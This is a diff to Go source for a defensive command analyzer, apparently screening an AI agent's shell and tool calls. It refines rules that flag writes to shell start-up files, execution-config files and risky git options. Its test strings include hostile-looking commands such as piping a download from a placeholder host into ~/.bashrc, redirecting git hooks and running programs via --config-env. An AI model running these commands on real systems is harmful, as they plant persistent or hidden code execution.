@@ -110,7 +110,7 @@ var (
 	ruleInstallScript = &ShellRule{ID: "install-script", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catAction, Action: true,
 		Doc: "a write of `package.json` (or another manifest) whose install scripts run on every install: the script is also judged as a command"}
 	ruleExecConfigWrite = &ShellRule{ID: "exec-config-write", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catAction, Action: true,
-		Doc: "a write of a file that tools execute or take execution settings from (`.git/config`, hooks, Makefiles, `.envrc`, editor tasks, CI workflows, notebooks): its content is judged as if it ran"}
+		Doc: "a write of a file that tools execute or take execution settings from (`.git/config`, hooks, Makefiles, `.envrc`, editor tasks, CI workflows, notebooks): its content is judged as if it ran (a shell start-up file's content is judged the same way, under shell-rc-write)"}
 	ruleMCPOddName = &ShellRule{ID: "mcp-odd-name", Analyzer: AnalyzerTool, Levels: lvMed, Category: catAction, Action: true,
 		Doc: "a tool name that is not an MCP tool name (too long, or characters outside the name alphabet), shown cut to 64 bytes"}
 	ruleToolArgsBudget = &ShellRule{ID: "tool-args-budget", Analyzer: AnalyzerTool, Levels: lvHigh, Category: catAction, Action: true,
@@ -282,7 +282,7 @@ var (
 		Doc:   "writes another user's shell start-up file, or downloaded/decoded code into one's own",
 		Fires: []string{"echo x > /home/bob/.profile", "curl -s https://x.example/rc >> ~/.bashrc"}, Quiet: []string{"echo x > /tmp/t/.bashrc"}}
 	ruleShellRcWrite = &ShellRule{ID: "shell-rc-write", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catPersist,
-		Doc:   "writes the user's own shell start-up file (content judged too)",
+		Doc:   "writes the user's own shell start-up file (`~/.bashrc`, `~/.profile`, `~/.zshrc` …); what it writes is judged as the shell would run it at the next start",
 		Fires: []string{"echo 'export EDITOR=vim' >> ~/.bashrc"}, Quiet: []string{"cat ~/.bashrc"}}
 	ruleSystemProfileWrite = &ShellRule{ID: "system-profile-write", Analyzer: AnalyzerFiles, Levels: lvHigh, Category: catPersist,
 		Doc:   "writes `/etc/profile`, `/etc/profile.d`, `/etc/bash.bashrc`, `/etc/environment`: code in every user's shell",
@@ -657,8 +657,8 @@ var (
 		Doc:   "changes user-wide or system git settings",
 		Fires: []string{"git config --global user.email x@example.com"}, Quiet: []string{"git config user.email x@example.com"}}
 	ruleGitExecConfig = &ShellRule{ID: "git-exec-config", Analyzer: AnalyzerShell, Levels: lvBoth, Category: catGit,
-		Doc:   "git is told to run or load programs from a path: `-c core.hooksPath=DIR`, `include.path`, `init.templateDir`, `--exec-path=DIR`, `protocol.ext.allow=always` (HIGH outside the workspace); program-valued keys (`core.fsmonitor`, `core.pager`, `alias.x=!…`, `diff.*.textconv`, `filter.*.process` …) are analysed as commands",
-		Fires: []string{"git -c core.hooksPath=/tmp/h commit -m x", "git --exec-path=/tmp/x status", "git -c protocol.ext.allow=always clone ext::x"}, Quiet: []string{"git -c user.name=x commit -m y", "git --exec-path", "git -c core.fsmonitor=true status"}}
+		Doc:   "git is told to run or load programs from a path: `-c core.hooksPath=DIR`, `include.path`, `init.templateDir`, `--exec-path=DIR`, `protocol.ext.allow=always` (HIGH outside the workspace); a program-valued or loading key given by `--config-env` (its value is read from an environment variable at run time: HIGH); program-valued keys (`core.fsmonitor`, `core.pager`, `alias.x=!…`, `diff.*.textconv`, `filter.*.process` …) are analysed as commands",
+		Fires: []string{"git -c core.hooksPath=/tmp/h commit -m x", "git --exec-path=/tmp/x status", "git -c protocol.ext.allow=always clone ext::x", "git --config-env=core.pager=P log", "git --config-env core.sshCommand=S fetch"}, Quiet: []string{"git -c user.name=x commit -m y", "git --exec-path", "git -c core.fsmonitor=true status", "git --config-env=user.name=NAME commit -m x"}}
 	ruleGitHooksDisabled = &ShellRule{ID: "git-hooks-disabled", Analyzer: AnalyzerShell, Levels: lvMed, Category: catGit,
 		Doc:   "`core.hooksPath` redirects or disables hooks",
 		Fires: []string{"git config core.hooksPath /dev/null"}, Quiet: []string{"git config core.editor vim"}}
